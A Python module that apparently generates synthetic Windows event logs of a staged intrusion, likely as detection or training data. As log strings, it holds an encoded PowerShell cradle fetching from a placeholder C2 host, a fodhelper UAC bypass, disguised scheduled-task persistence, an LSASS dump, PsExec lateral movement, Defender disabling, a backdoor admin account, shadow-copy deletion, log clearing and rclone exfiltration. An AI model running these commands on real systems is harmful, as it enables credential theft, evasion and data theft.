"""The intrusion on Windows: two workstations and a file server.

Commands are those the public tools print (PsExec, comsvcs.dll, rclone, built-in programs). Pure.
"""

from __future__ import annotations

import base64
from dataclasses import replace

from yoban.content.sample._traffic import IMPLANT, RCLONE, Flow
from yoban.content.sample._windows_noise import (
    block,
    day,
    desk,
    explorer,
    logon,
    services,
    shares,
    upkeep,
)
from yoban.content.sample._winlog import (
    DEFENDER,
    LOCAL_SYSTEM,
    SECURITY,
    SYSMON,
    SYSTEM,
    Process,
    Session,
    Windows,
    session,
)
from yoban.content.sample._world import (
    BACKUP,
    C2_NAME,
    FS01,
    KEN,
    MIKA,
    WHEN,
    WS14,
    WS22,
    Log,
    dice,
)

_S = "C:\\Windows\\System32\\"
_PS = f"{_S}WindowsPowerShell\\v1.0\\powershell.exe"
_FETCH = f"IEX (New-Object Net.WebClient).DownloadString('http://{C2_NAME}/u.ps1')"
_DUMP = r"C:\Windows\Temp\fc.dmp"


def logs(seed: int, flows: list[Flow]) -> list[Log]:
    """One file a machine."""
    first = Windows(WS14, dice(seed, WS14.name))
    mika = session(MIKA, "0x5a3c1")
    day(first)
    desk(first, mika, flows)
    _foothold(first, mika, flows)
    second = Windows(WS22, dice(seed, WS22.name))
    ken = session(KEN, "0x61f02")
    day(second)
    desk(second, ken, flows)
    upkeep(second, replace(ken, level="High"))
    server = Windows(FS01, dice(seed, FS01.name))
    day(server)
    shares(server)
    _server(server, flows)
    return [first.log(), second.log(), server.log()]


def _flows(flows: list[Flow], step: str, source: str) -> list[Flow]:
    return [flow for flow in flows if flow.step == step and flow.src == source]


def _foothold(host: Windows, who: Session, flows: list[Flow]) -> None:
    """WS-014: from the mailed script to the dump of LSASS."""
    chrome = host.running(r"C:\Program Files\Google\Chrome\Application\chrome.exe", "", who, 7216)
    for flow in _flows(flows, "phish", host.machine.ip):
        host.connect(flow, chrome)
    at = WHEN["script"]
    desktop = explorer(host, who)
    script = r"C:\Users\mika.sato\Downloads\Invoice_4471.js"
    host.file(at - 20, script, chrome, "script")
    wscript = host.start(at, f'"{_S}WScript.exe" "{script}"', desktop, "script")
    code = base64.b64encode(_FETCH.encode("utf-16-le")).decode()
    command = f'"{_PS}" -NoP -NonI -W Hidden -Enc {code}'
    shell = host.start(WHEN["encoded"], command, wscript, "encoded")
    block(host, WHEN["encoded"] + 1, _FETCH, who, "encoded")
    for flow in _flows(flows, "implant", host.machine.ip):
        host.connect(flow, shell)
    at = WHEN["implant"]
    host.file(at + 2, IMPLANT, shell, "implant")
    implant = host.start(at + 5, IMPLANT, shell, "implant")
    for flow in _flows(flows, "beacon", host.machine.ip):
        host.connect(flow, implant)
    for i, asked in enumerate(
        (
            "whoami.exe /all",
            'net.exe group "Domain Admins" /domain',
            "nltest.exe /domain_trusts /all_trusts",
            "systeminfo.exe",
        )
    ):
        at = WHEN["discovery"] + i * 22
        cmd = host.start(at, f"{_S}cmd.exe /c {asked}", implant, "discovery")
        host.start(at + 0.2, _S + asked, cmd, "discovery")
        if asked.startswith("net.exe"):
            host.start(at + 0.4, f"{_S}net1{asked[3:].removeprefix('.exe')}", cmd, "discovery",
                       image=f"{_S}net1.exe")  # fmt: skip
    _elevated(host, who, implant)


def _elevated(host: Windows, who: Session, implant: Process) -> None:
    at = WHEN["uac"]
    key = rf"HKU\{who.sid}_Classes\ms-settings\shell\open\command"
    host.registry(at, rf"{key}\DelegateExecute", "(Empty)", implant, "uac")
    host.registry(at + 0.2, rf"{key}\(Default)", f"cmd.exe /c start {IMPLANT}", implant, "uac")
    high = replace(who, logon="0x5a3a8", level="High")
    fod = host.start(at + 1, f'"{_S}fodhelper.exe"', implant, "uac", who=high)
    cmd = host.start(at + 1.4, f'"{_S}cmd.exe" /c start {IMPLANT}', fod, "uac")
    strong = host.start(at + 1.8, IMPLANT, cmd, "uac")

    at = WHEN["task"]
    name = r"\Microsoft\Windows\FontCache\FontCacheUpdate"
    command = (
        f'{_S}schtasks.exe /create /f /tn "{name[1:]}" /tr "{IMPLANT}" /sc minute /mo 30 /ru SYSTEM'
    )
    host.start(at, command, strong, "task")
    content = (
        '<?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2" xmlns="http://schemas.'
        'microsoft.com/windows/2004/02/mit/task"><Principals><Principal id="Author"><UserId>'
        'S-1-5-18</UserId></Principal></Principals><Actions Context="Author"><Exec><Command>'
        f"{IMPLANT}</Command></Exec></Actions></Task>"
    )
    data = {**high.subject(), "TaskName": name, "TaskContent": content}
    host.event(at + 0.5, SECURITY, 4698, data, "task")

    at = WHEN["lsass"]
    shell = host.start(at, f"{_PS} -NoP -W Hidden", strong, "lsass")
    command = f"{_S}rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 812 {_DUMP} full"
    dumper = host.start(at + 4, command, shell, "lsass")
    lsass = host.running(f"{_S}lsass.exe", f"{_S}lsass.exe", LOCAL_SYSTEM, 812)
    frames = ("ntdll.dll+9d8e4", "KERNELBASE.dll+2c13e", "comsvcs.dll+2bf33", "dbgcore.DLL+fe9c")
    host.event(
        at + 4.3,
        SYSMON,
        10,
        {
            "RuleName": "-", "SourceProcessGUID": dumper.guid, "SourceProcessId": str(dumper.pid),
            "SourceThreadId": "6112", "SourceImage": dumper.image,
            "TargetProcessGUID": lsass.guid, "TargetProcessId": "812",
            "TargetImage": lsass.image, "GrantedAccess": "0x1FFFFF",
            "CallTrace": "|".join(f"C:\\Windows\\SYSTEM32\\{frame}" for frame in frames),
            "SourceUser": high.account, "TargetUser": LOCAL_SYSTEM.account,
        },
        "lsass",
    )  # fmt: skip
    host.file(at + 4.5, _DUMP, dumper, "lsass")

    at = WHEN["psexec"]
    tool = r"C:\Users\mika.sato\AppData\Roaming\FontCache\ps.exe"
    host.file(at - 30, tool, strong, "psexec")
    command = rf"{tool} -accepteula \\SRV-FS01 -u AOBA\svc_backup -p Winter-4471 -s cmd.exe"
    host.start(at, command, strong, "psexec", original="psexec.c")
    data = {
        **high.subject(), "LogonGuid": "{00000000-0000-0000-0000-000000000000}",
        "TargetUserName": BACKUP.name, "TargetDomainName": "AOBA",
        "TargetLogonGuid": "{00000000-0000-0000-0000-000000000000}",
        "TargetServerName": "SRV-FS01", "TargetInfo": "cifs/SRV-FS01", "ProcessId": "0x4",
        "ProcessName": "", "IpAddress": "-", "IpPort": "-",
    }  # fmt: skip
    host.event(at + 0.6, SECURITY, 4648, data, "psexec")


def _server(host: Windows, flows: list[Flow]) -> None:
    """SRV-FS01: from PsExec to the cleared logs."""
    at = WHEN["psexec"]
    came = session(BACKUP, "0x9c4417", "High")
    logon(host, at + 1, 3, came, ("WS-014", WS14.ip), "psexec", "NTLM")
    share = {
        **came.subject(), "ObjectType": "File", "IpAddress": WS14.ip, "IpPort": "50219",
        "ShareName": r"\\*\ADMIN$", "ShareLocalPath": r"\??\C:\Windows",
        "AccessMask": "0x1", "AccessList": "%%4416\n\t\t\t\t",
    }  # fmt: skip
    host.event(at + 1.2, SECURITY, 5140, share, "psexec")
    kernel = host.running("System", "", LOCAL_SYSTEM, 4)
    host.file(at + 1.5, r"C:\Windows\PSEXESVC.exe", kernel, "psexec")
    service = {
        "ServiceName": "PSEXESVC", "ImagePath": r"%SystemRoot%\PSEXESVC.exe",
        "ServiceType": "user mode service", "StartType": "demand start",
        "AccountName": "LocalSystem",
    }  # fmt: skip
    host.event(at + 1.8, SYSTEM, 7045, service, "psexec")
    audited = {
        **came.subject(), "ServiceName": "PSEXESVC",
        "ServiceFileName": r"%SystemRoot%\PSEXESVC.exe", "ServiceType": "0x10",
        "ServiceStartType": "3", "ServiceAccount": "LocalSystem",
    }  # fmt: skip
    host.event(at + 1.8, SECURITY, 4697, audited, "psexec")
    remote = host.start(at + 2, r"C:\Windows\PSEXESVC.exe", services(host), "psexec",
                        original="psexesvc.exe")  # fmt: skip
    pipe = {**host.about(remote), "EventType": "CreatePipe", "PipeName": r"\PSEXESVC"}
    host.event(at + 2.1, SYSMON, 17, pipe, "psexec")
    cmd = host.start(at + 2.6, '"cmd.exe"', remote, "psexec", image=f"{_S}cmd.exe")
    _defence(host, cmd)
    _loot(host, cmd, flows)
    at = WHEN["shadows"]
    host.start(at, f"{_S}vssadmin.exe delete shadows /all /quiet", cmd, "shadows")
    at = WHEN["clearlog"]
    subject = {**LOCAL_SYSTEM.subject(), "xml_name": "LogFileCleared"}
    host.start(at, f"{_S}wevtutil.exe cl Security", cmd, "clearlog")
    host.event(at + 0.3, SECURITY, 1102, subject, "clearlog")
    host.start(at + 5, f"{_S}wevtutil.exe cl System", cmd, "clearlog")
    names = {"SubjectUserName": "SYSTEM", "SubjectDomainName": "NT AUTHORITY"}
    cleared = {**names, "Channel": "System", "BackupPath": "", "xml_name": "LogFileCleared"}
    host.event(at + 5.3, SYSTEM, 104, cleared, "clearlog")


def _defence(host: Windows, cmd: Process) -> None:
    at = WHEN["defender"]
    order = "Set-MpPreference -DisableRealtimeMonitoring $true"
    host.start(at, f"{_PS} -Command {order}", cmd, "defender")
    block(host, at + 1, order, LOCAL_SYSTEM, "defender")
    product = {"Product Name": "Microsoft Defender Antivirus", "Product Version": "4.18.25080.5"}
    key = r"HKLM\SOFTWARE\Microsoft\Windows Defender\Real-Time Protection"
    change = {"Old Value": rf"{key}\DisableRealtimeMonitoring = 0x0"}
    change["New Value"] = rf"{key}\DisableRealtimeMonitoring = 0x1"
    host.event(at + 2, DEFENDER, 5007, {**product, **change}, "defender")
    host.event(at + 2.1, DEFENDER, 5001, product, "defender")

    at = WHEN["account"]
    host.start(at, f"{_S}net.exe user helpdesk2 Spring-8812 /add", cmd, "account")
    made = "S-1-5-21-2210413388-1187253119-3301425524-1009"
    target = {"TargetUserName": "helpdesk2", "TargetDomainName": "SRV-FS01", "TargetSid": made}
    details = {"PrivilegeList": "-", "SamAccountName": "helpdesk2", "UserAccountControl": "%%2080"}
    host.event(at + 0.4, SECURITY, 4720, {**target, **LOCAL_SYSTEM.subject(), **details}, "account")
    host.start(at + 6, f"{_S}net.exe localgroup Administrators helpdesk2 /add", cmd, "account")
    group = {
        "MemberName": "-", "MemberSid": made, "TargetUserName": "Administrators",
        "TargetDomainName": "Builtin", "TargetSid": "S-1-5-32-544",
        **LOCAL_SYSTEM.subject(), "PrivilegeList": "-",
    }  # fmt: skip
    host.event(at + 6.4, SECURITY, 4732, group, "account")


def _loot(host: Windows, cmd: Process, flows: list[Flow]) -> None:
    at = WHEN["archive"]
    packer, archive = r"C:\ProgramData\rclone\7za.exe", r"C:\ProgramData\rclone\f.7z"
    command = rf"{packer} a -mhe -pAutumn-3390 {archive} D:\Shares\Finance"
    made = host.start(at, command, cmd, "archive")
    host.file(at + 1, archive, made, "archive")
    at = WHEN["exfil"]
    command = rf"{RCLONE} copy {archive} stash:aoba --config C:\ProgramData\rclone\r.conf"
    sender = host.start(at, command, cmd, "exfil")
    for flow in _flows(flows, "exfil", host.machine.ip):
        host.connect(flow, sender)
